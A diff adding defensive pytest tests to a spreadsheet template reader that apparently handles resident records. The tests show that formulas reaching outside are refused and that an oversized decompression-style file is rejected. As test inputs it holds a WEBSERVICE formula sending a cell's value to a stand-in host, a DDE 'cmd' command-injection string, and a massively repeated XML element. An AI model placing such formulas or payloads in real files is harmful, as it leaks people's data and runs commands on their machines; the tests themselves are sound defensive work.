@@ -394,3 +394,22 @@ def test_rows_that_are_schools_are_refused_with_what_to_do():
         read_template(paper.bytes())
     assert "学校名称" in fault.value.reason
     assert "一个村" in fault.value.remedy
+
+
+@pytest.mark.parametrize(
+    "formula", ['WEBSERVICE("http://x.test/"&amp;C5)', "cmd|&apos; /C calc&apos;!A0", "_xlfn.IMAGE(C5)"]
+)
+def test_a_formula_that_would_send_residents_away_is_not_taken(formula):
+    with pytest.raises(TemplateFault) as fault:
+        read_template(patched(SHEET, b"<f>SUM(D5:D7)</f>", f"<f>{formula}</f>".encode()))
+    assert fault.value.code == "reaches_out"
+
+
+def test_a_formula_of_the_department_stays():
+    assert read_template(patched(SHEET, b"<f>SUM(D5:D7)</f>", b"<f>IF(D5&gt;0,D5,0)</f>"))
+
+
+def test_a_small_file_that_unpacks_to_millions_of_elements_is_too_large():
+    with pytest.raises(TemplateFault) as fault:
+        read_template(patched("xl/styles.xml", b"</styleSheet>", b"<a/>" * 1_000_001 + b"</styleSheet>"))
+    assert fault.value.code == "too_large"
